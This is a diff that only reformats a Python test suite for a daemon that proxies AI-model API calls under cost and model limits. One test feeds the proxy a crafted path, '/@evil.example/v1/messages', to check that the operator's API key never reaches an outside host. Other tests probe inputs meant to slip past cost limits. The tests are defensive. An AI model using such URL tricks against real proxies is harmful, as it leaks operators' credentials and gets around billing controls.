@@ -66,10 +66,20 @@ class Biller:
     usd: float = 0.0
     reached: list[str] = field(default_factory=list)
 
-    def says(self, handler: BaseHTTPRequestHandler, status: int = 200, *headers: tuple[str, str], **reply: Any) -> None:
+    def says(
+        self,
+        handler: BaseHTTPRequestHandler,
+        status: int = 200,
+        *headers: tuple[str, str],
+        **reply: Any,
+    ) -> None:
         data = json.dumps(reply).encode()
         handler.send_response(status)
-        for name, value in [("content-type", "application/json"), ("content-length", str(len(data))), *headers]:
+        for name, value in [
+            ("content-type", "application/json"),
+            ("content-length", str(len(data))),
+            *headers,
+        ]:
             handler.send_header(name, value)
         handler.end_headers()
         handler.wfile.write(data)
@@ -107,7 +117,10 @@ class _Handler(BaseHTTPRequestHandler):
 @contextmanager
 def billing() -> Iterator[Biller]:
     server = _Server(("127.0.0.1", 0), _Handler)
-    server.biller = Biller(f"http://127.0.0.1:{server.server_port}", lambda handler, body: server.biller.bills(handler, len(body)))
+    server.biller = Biller(
+        f"http://127.0.0.1:{server.server_port}",
+        lambda handler, body: server.biller.bills(handler, len(body)),
+    )
     with serve_in_thread(server):
         yield server.biller
 
@@ -118,13 +131,17 @@ def biller() -> Iterator[Biller]:
         yield made
 
 
-def agent(daemon: Daemon, code: str, usd: float, url: str | None = None, models: Sequence[str] = ()) -> str:
+def agent(
+    daemon: Daemon, code: str, usd: float, url: str | None = None, models: Sequence[str] = ()
+) -> str:
     """Start an agent with a limit of cost, and return its run. `url`: a person's own address."""
     own = environment()
     own += [f"ANTHROPIC_BASE_URL={url}".encode()] if url is not None else []
     with daemon.client() as client:
         words = [sys.executable, "-c", AGENT + textwrap.dedent(code)]
-        reply = spawn(client, words, limits=[limit("cost", usd)], env=own, allowed_models=list(models))
+        reply = spawn(
+            client, words, limits=[limit("cost", usd)], env=own, allowed_models=list(models)
+        )
         assert isinstance(reply, m.RunReply), reply
         return reply.run.id
 
@@ -181,8 +198,19 @@ def test_requests_that_are_not_known_to_be_free_are_refused(daemon: Daemon) -> N
     assert [status for status, _ in said] == [400] * 5
 
 
-@pytest.mark.parametrize("field", ['"n": "100"', '"n": 100.5', '"n": [100]', '"models": ["claude-opus-4-1"]', '"fallbacks": ["x"]'])
-def test_a_field_that_makes_a_call_dearer_than_it_looks(daemon: Daemon, biller: Biller, field: str) -> None:
+@pytest.mark.parametrize(
+    "field",
+    [
+        '"n": "100"',
+        '"n": 100.5',
+        '"n": [100]',
+        '"models": ["claude-opus-4-1"]',
+        '"fallbacks": ["x"]',
+    ],
+)
+def test_a_field_that_makes_a_call_dearer_than_it_looks(
+    daemon: Daemon, biller: Biller, field: str
+) -> None:
     body = f'{{"model": "claude-sonnet-4-5", "max_tokens": 1000, "messages": [], {field}}}'
     _, said = tried(daemon, f"call(openai + '/chat/completions', {body.encode()!r})")
     assert (said[0][0], biller.reached) == (400, [])
@@ -215,7 +243,9 @@ def test_a_text_that_looks_like_an_image(daemon: Daemon, biller: Biller) -> None
     assert (biller.reached, run.status) == ([], Status.FAILED)
 
 
-def test_a_small_document_of_many_pages_exceeds_a_limit_once(daemon: Daemon, biller: Biller) -> None:
+def test_a_small_document_of_many_pages_exceeds_a_limit_once(
+    daemon: Daemon, biller: Biller
+) -> None:
     """How many tokens it has is known after the first call."""
     biller.answer = lambda handler, _: biller.bills(handler, 150_000)
     run, _ = tried(
@@ -247,13 +277,22 @@ def test_a_usage_without_input(daemon: Daemon, biller: Biller) -> None:
 def test_a_model_that_another_one_advises(daemon: Daemon, biller: Biller) -> None:
     def answer(handler: BaseHTTPRequestHandler, _: bytes) -> None:
         biller.usd += IN_USD * 10 + OUT_USD * 10 + 15e-6 * 20_000 + 75e-6 * 5_000
-        advised = {"type": "advisor_message", "model": "claude-opus-4-1", "input_tokens": 20_000, "output_tokens": 5_000}
+        advised = {
+            "type": "advisor_message",
+            "model": "claude-opus-4-1",
+            "input_tokens": 20_000,
+            "output_tokens": 5_000,
+        }
         own = {"input_tokens": 10, "output_tokens": 10}
-        biller.says(handler, content=[], usage={**own, "iterations": [{"type": "message", **own}, advised]})
+        biller.says(
+            handler, content=[], usage={**own, "iterations": [{"type": "message", **own}, advised]}
+        )
 
     biller.answer = answer
     advisor = {"type": "advisor_20260301", "name": "advisor", "model": "claude-opus-4-1"}
-    run, _ = tried(daemon, f"for _ in range(3): call(anthropic + '/v1/messages', ask(tools=[{advisor!r}]))")
+    run, _ = tried(
+        daemon, f"for _ in range(3): call(anthropic + '/v1/messages', ask(tools=[{advisor!r}]))"
+    )
     assert (len(biller.reached), run.status) == (1, Status.FAILED)
     assert run.total_cost_usd == pytest.approx(biller.usd)
 
@@ -262,24 +301,33 @@ def test_an_advisor_that_the_run_may_not_call(daemon: Daemon, biller: Biller) ->
     advisor = {"type": "advisor_20260301", "name": "advisor", "model": "claude-opus-4-1"}
     code = f"call(anthropic + '/v1/messages', ask(tools=[{advisor!r}]))"
     _, said = tried(daemon, code, models=["claude-sonnet-*"])
-    assert (said[0][0], "'claude-opus-4-1' is not one of" in said[0][1], biller.reached) == (400, True, [])
+    assert (said[0][0], "'claude-opus-4-1' is not one of" in said[0][1], biller.reached) == (
+        400,
+        True,
+        [],
+    )
 
 
 def test_hanging_up_on_hidden_thinking(daemon: Daemon, biller: Biller) -> None:
-    """The figure is not below the bill, and what may not have been used makes no room for more calls."""
+    """The figure is not below the bill, and what may not have been used makes no room for more
+    calls."""
 
     def answer(handler: BaseHTTPRequestHandler, _: bytes) -> None:
         handler.send_response(200)
         handler.send_header("content-type", "text/event-stream")
         handler.end_headers()
-        start = {"type": "message_start", "message": {"usage": {"input_tokens": 20, "output_tokens": 1}}}
+        start = {
+            "type": "message_start",
+            "message": {"usage": {"input_tokens": 20, "output_tokens": 1}},
+        }
         handler.wfile.write(f"data: {json.dumps(start)}\n\n".encode())
         began = billed = time.monotonic()
         try:
             while time.monotonic() < began + 30:
                 handler.wfile.write(b'data: {"type": "ping"}\n\n')
                 now = time.monotonic()
-                biller.usd += OUT_USD * 100 * (now - billed) if now > began + 2 else 0  # it reads first
+                # it reads first
+                biller.usd += OUT_USD * 100 * (now - billed) if now > began + 2 else 0
                 billed = now
                 time.sleep(0.05)
         except OSError:
@@ -302,7 +350,9 @@ def test_hanging_up_on_hidden_thinking(daemon: Daemon, biller: Biller) -> None:
     assert (run.total_partial, run.total_at_most) == (True, True)
 
 
-def test_hanging_up_on_a_reply_that_is_generated_all_the_same(daemon: Daemon, biller: Biller) -> None:
+def test_hanging_up_on_a_reply_that_is_generated_all_the_same(
+    daemon: Daemon, biller: Biller
+) -> None:
     def answer(_: BaseHTTPRequestHandler, body: bytes) -> None:
         biller.usd += OUT_USD * json.loads(body)["max_output_tokens"]
 
@@ -325,20 +375,29 @@ def test_hanging_up_on_a_reply_that_is_generated_all_the_same(daemon: Daemon, bi
 # ---- upstreams that lead elsewhere
 
 
-def test_the_key_of_the_operator_goes_to_no_address_of_a_person(start: Start, biller: Biller, tmp_path: Path) -> None:
+def test_the_key_of_the_operator_goes_to_no_address_of_a_person(
+    start: Start, biller: Biller, tmp_path: Path
+) -> None:
     key = tmp_path / "key"
     key.write_text("operators-own")
     key.chmod(0o600)
-    config = CONFIG.format(url=biller.url).replace('api = "anthropic"', f'api = "anthropic"\nkey_file = "{key}"')
+    config = CONFIG.format(url=biller.url).replace(
+        'api = "anthropic"', f'api = "anthropic"\nkey_file = "{key}"'
+    )
     seen: dict[str, list[tuple[str | None, str | None]]] = {}
 
     def answer(handler: BaseHTTPRequestHandler, body: bytes) -> None:
         server = cast(_Server, handler.server).biller
-        seen.setdefault(server.url, []).append((handler.headers["x-api-key"], handler.headers["authorization"]))
+        seen.setdefault(server.url, []).append(
+            (handler.headers["x-api-key"], handler.headers["authorization"])
+        )
         server.bills(handler, len(body))
 
     daemon = start(config=config)
-    code = "call(anthropic + '/v1/messages?key=theirs', ask())\ncall(anthropic + '/@evil.example/v1/messages', ask())"
+    code = (
+        "call(anthropic + '/v1/messages?key=theirs', ask())\ncall(anthropic + "
+        "'/@evil.example/v1/messages', ask())"
+    )
     with billing() as other:
         biller.answer = other.answer = answer
         tried(daemon, code)
@@ -355,7 +414,9 @@ def test_an_upstream_that_redirects_a_call(daemon: Daemon, biller: Biller) -> No
         biller.answer = lambda handler, _: biller.says(handler, 307, location)
         _, said = tried(daemon, "call(anthropic + '/v1/messages', ask())")
         status, words = said[0]
-        assert (status, f"redirects calls to {other.url}/v1/messages" in words) == (502, True), words
+        assert (status, f"redirects calls to {other.url}/v1/messages" in words) == (502, True), (
+            words
+        )
         assert other.reached == []
 
 
@@ -396,4 +457,7 @@ def test_a_run_cannot_take_all_connections(daemon: Daemon, biller: Biller) -> No
     finally:
         free.set()
         assert daemon.sfactl("stop", greedy).returncode == 0
-        wait_until(lambda: set(threading.enumerate()) <= before, "the provider has answered a thousand requests")
+        wait_until(
+            lambda: set(threading.enumerate()) <= before,
+            "the provider has answered a thousand requests",
+        )
